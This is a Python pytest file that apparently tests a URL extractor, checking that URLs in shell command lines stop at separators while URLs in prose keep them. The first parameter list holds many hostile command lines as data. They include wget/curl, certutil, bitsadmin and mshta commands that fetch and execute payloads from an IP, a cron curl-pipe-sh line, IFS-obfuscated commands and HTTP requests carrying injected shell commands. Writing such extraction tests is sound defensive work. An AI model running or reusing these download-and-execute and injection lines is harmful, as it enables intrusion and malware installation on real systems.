"""URLs in command lines end at the separators of the shell; URLs in prose keep them."""

from __future__ import annotations

import pytest

from tests.pipeline.found import found

URL = "url http://9.8.7.6/x"


@pytest.mark.parametrize(
    "text",
    [
        "cd /tmp;wget http://9.8.7.6/x;chmod 777 x;sh x",
        "mshta http://9.8.7.6/x&&exit",
        "curl http://9.8.7.6/x[1]&&sh x",
        "curl 9.8.7.6/x;chmod +x x;./x",
        "cmd /c certutil -urlcache -split -f http://9.8.7.6/x %TEMP%\\a.exe&&%TEMP%\\a.exe",
        "bitsadmin /transfer job /priority high http://9.8.7.6/x&start a.exe",
        "start http://9.8.7.6/x&exit",
        "wget http://9.8.7.6/x||curl -O http://9.8.7.6/x;cat x>bin",
        'sh -c "wget http://9.8.7.6/x;sh x"',
        '"cmd": "/bin/busybox wget http://9.8.7.6/x;/bin/busybox chmod 777 x"',
        "`curl http://9.8.7.6/x`",
        "$(curl http://9.8.7.6/x)",
        "(wget http://9.8.7.6/x;sh x)&",
        "* * * * * curl -fsSL http://9.8.7.6/x|sh;exit",
        "cd${IFS}/tmp;wget${IFS}http://9.8.7.6/x;${IFS}sh${IFS}x",
        "GET /shell?cd+/tmp;wget+http://9.8.7.6/x;sh+/tmp/x HTTP/1.1",
        "GET /?c=wget%20http://9.8.7.6/x%20-O%20/tmp/a%3bsh%20/tmp/a HTTP/1.1",
        "GET /?c=cd+/tmp&&wget+http://9.8.7.6/x+-O+a&&sh+a HTTP/1.1",
        "wget http://9.8.7.6/x;A=1;export A",
        "http://9.8.7.6/x;sh x",
        "curl http://9.8.7.6/x&",
    ],
)
def test_a_separator_of_the_shell_ends_a_url(text: str) -> None:
    assert found(text) == [URL]


@pytest.mark.parametrize(
    "text",
    [
        "see http://badshop.com/a;b there",
        "see http://badshop.com/?a=1&&b=2 there",
        "the curl user agent asked for http://badshop.com/a;b and left",
        "the curl user agent asked for http://badshop.com/a&b and left",
        "http://badshop.com/a&exit=1",
        'curl "http://badshop.com/a;b?x=1&y=2"',
        "curl http://badshop.com/a?x=1&y=2",
        "curl http://badshop.com/x;jsessionid=12AB",
        "see http://badshop.com/?a=1&sh=2&id there",
        'u = "a" +http://badshop.com/a+b',
    ],
)
def test_a_url_keeps_separators_elsewhere(text: str) -> None:
    (url,) = found(text)
    value = url.removeprefix("url ")
    assert text.partition(value)[2][:1] in ("", " ", '"')
